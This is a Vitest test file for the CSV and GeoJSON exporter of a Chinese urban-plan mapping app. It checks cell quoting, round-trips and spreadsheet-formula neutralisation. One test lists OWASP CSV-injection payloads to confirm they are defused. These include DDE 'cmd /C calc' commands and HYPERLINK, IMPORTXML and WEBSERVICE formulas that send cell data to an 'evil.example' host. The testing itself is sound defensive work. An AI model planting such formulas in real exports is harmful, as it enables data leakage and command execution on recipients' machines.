import { describe, it, expect } from 'vitest';
import { BOM, CSV_COLUMNS, CSV_HEADERS, csvCell, csvDocument, exportFileName, representativePoint, toCsv, toGeoJSON } from '../../../src/lib/plan/exporter.ts';
import { importText, parseCsvRecords } from '../../../src/lib/plan/importer.ts';
import { allPlanFeatures } from '../helpers.ts';
import { booleanPointInPolygon } from '@turf/turf';
import type { Feature, Polygon } from 'geojson';

const feat = (props: Record<string, unknown>, geometry: Feature['geometry']): Feature => ({ type: 'Feature', properties: props, geometry });

describe('CSV cells', () => {
  it('quotes commas, quotes and newlines; doubles quotes', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rlf')).toBe('"cr\rlf"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('中文，全角逗号')).toBe('中文，全角逗号');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });
  it('defuses spreadsheet formulas in text but not numbers', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('+1')).toBe('+1');
    expect(csvCell('+1x')).toBe("'+1x");
    expect(csvCell('@cmd')).toBe("'@cmd");
    expect(csvCell('-x')).toBe("'-x");
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell(-3)).toBe('-3');
  });
  it('defuses the OWASP CSV-injection payloads, including those starting with - and a digit', () => {
    // https://owasp.org/www-community/attacks/CSV_Injection and its payload list
    const OWASP = [
      '=1+2+3',
      '=cmd|\' /C calc\'!A0',
      '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: click me")',
      '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
      '=WEBSERVICE("http://evil.example/")',
      '+1+cmd|\' /C calc\'!A0',
      '-1+cmd|\' /C calc\'!A0',
      '-0+HYPERLINK("http://evil.example")',
      '-.5+cmd|\' /C calc\'!A0',
      '-2+3+cmd|\' /C calc\'!A0',
      '@SUM(1+9)*cmd|\' /C calc\'!A0',
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '\t=1+2',
      '\r=1+2',
      '=DDE("cmd";"/C calc";"!A0")A0',
      "=10+20+cmd|' /C calc'!A0",
      '+HYPERLINK("http://evil.example")',
    ];
    for (const p of OWASP) {
      const out = csvCell(p);
      const inner = out.startsWith('"') ? out.slice(1, -1).replace(/""/g, '"') : out;
      expect(inner, p).toBe(`'${p}`);
    }
    // numbers stay numbers, as text or as numbers
    for (const n of ['-1', '-0.5', '-.5', '+3', '1e5', '-2.5E-3', '42']) expect(csvCell(n), n).toBe(n);
    expect(csvCell(-0.5)).toBe('-0.5');
    // harmless text that merely contains those characters later is untouched
    expect(csvCell('a=b')).toBe('a=b');
  });
  it('a document starts with a BOM and uses CRLF', () => {
    const d = csvDocument([['a', 'b'], ['1', '2']]);
    expect(d.startsWith(BOM)).toBe(true);
    expect(d).toBe('\uFEFFa,b\r\n1,2\r\n');
  });
});

describe('toCsv', () => {
  const tricky = feat(
    { id: 'x', name_zh: '名称,带逗号', name_en: 'He said "go"', category: 'culture', zone: null, section: '八(一)', status: 'planned', location_quality: 'estimated', excerpt_zh: '第一行\n第二行' },
    { type: 'Point', coordinates: [120.58123456789, 30.0] },
  );
  it('has the fixed columns, a BOM, and round-trips through a CSV parser', () => {
    const csv = toCsv([tricky]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const parsed = parseCsvRecords(csv.slice(1));
    if (!('records' in parsed)) throw new Error('unparseable');
    expect(parsed.records[0].cells).toEqual(CSV_COLUMNS.map((c) => CSV_HEADERS.en[c]));
    expect(parsed.records[1].cells).toEqual(['x', '名称,带逗号', 'He said "go"', 'culture', '', '八(一)', 'planned', 'estimated', '120.58123457', '30', '第一行\n第二行']);
  });
  it('in Chinese: 中文列名, translated values, no Markdown markers', () => {
    const label = (c: string, v: string | null) => (c === 'zone' ? ({ north: '北部' } as Record<string, string>)[v ?? ''] ?? '区外' : c === 'status' ? '规划中' : c === 'category' ? '文化' : '推估');
    const csv = toCsv([{ ...tricky, properties: { ...tricky.properties, zone: 'north', excerpt_zh: '**北部：**建设' } }], { lang: 'zh', label });
    const parsed = parseCsvRecords(csv.slice(1));
    if (!('records' in parsed)) throw new Error('unparseable');
    expect(parsed.records[0].cells).toEqual(['编号', '名称', '英文名称', '类别', '功能区', '规划条目', '状态', '位置精度', '经度', '纬度', '规划原文摘录']);
    expect(parsed.records[1].cells.slice(3, 8)).toEqual(['文化', '北部', '八(一)', '规划中', '推估']);
    expect(parsed.records[1].cells[10]).toBe('北部：建设');
    expect(csv).not.toContain('**');
    // a Chinese export re-imports (经度/纬度 are recognised)
    expect(importText(csv, { name: 'x.csv' }).ok).toBe(true);
    expect(parsed.records).toHaveLength(2);
  });
  it('uses a point on a polygon, not a centroid outside it', () => {
    const u: Polygon = { type: 'Polygon', coordinates: [[[120.5, 30], [120.6, 30], [120.6, 30.1], [120.58, 30.1], [120.58, 30.02], [120.52, 30.02], [120.52, 30.1], [120.5, 30.1], [120.5, 30]]] };
    const p = representativePoint(u)!;
    expect(booleanPointInPolygon(p, u)).toBe(true);
    expect(representativePoint(null)).toBeNull();
    expect(representativePoint({ type: 'LineString', coordinates: [[120, 30], [121, 30]] })).not.toBeNull();
  });
  it('exports the real data: one row per feature, importable as CSV', () => {
    const all = allPlanFeatures();
    const csv = toCsv(all);
    const parsed = parseCsvRecords(csv.slice(1));
    if (!('records' in parsed)) throw new Error('unparseable');
    expect(parsed.records.length).toBe(all.length + 1);
    for (const r of parsed.records) expect(r.cells).toHaveLength(CSV_COLUMNS.length);
    if (all.length) {
      const back = importText(csv, { name: 'x.csv' });
      expect(back.ok).toBe(true);
    }
  });
});

describe('toGeoJSON', () => {
  it('keeps all own properties and ids, drops derived ones, and imports back', () => {
    const f = { ...feat({ id: 'a', name_zh: '甲', also: ['water'], also_str: ',water,', chapter: '九', radius_m: 5 }, { type: 'Point', coordinates: [120.58, 30] }), id: 'a' };
    const s = toGeoJSON([f], { name: 'test' });
    const obj = JSON.parse(s);
    expect(obj.type).toBe('FeatureCollection');
    expect(obj.name).toBe('test');
    expect(obj.features[0].properties).toEqual({ id: 'a', name_zh: '甲', also: ['water'], radius_m: 5 });
    expect(obj.features[0].id).toBe('a');
    const back = importText(s, { name: 'x.geojson' });
    expect(back.ok && back.fc.features[0].properties).toEqual(obj.features[0].properties);
  });
  it('round-trips all plan features', () => {
    const all = allPlanFeatures();
    if (!all.length) return;
    const back = importText(toGeoJSON(all), { name: 'x.geojson' });
    if (!back.ok) throw new Error(back.message_en);
    expect(back.fc.features).toHaveLength(all.length);
  });
  it('names files by date', () => {
    expect(exportFileName('csv', new Date('2026-01-02T03:04:05Z'))).toBe('yuecheng-plan-2026-01-02.csv');
  });
});
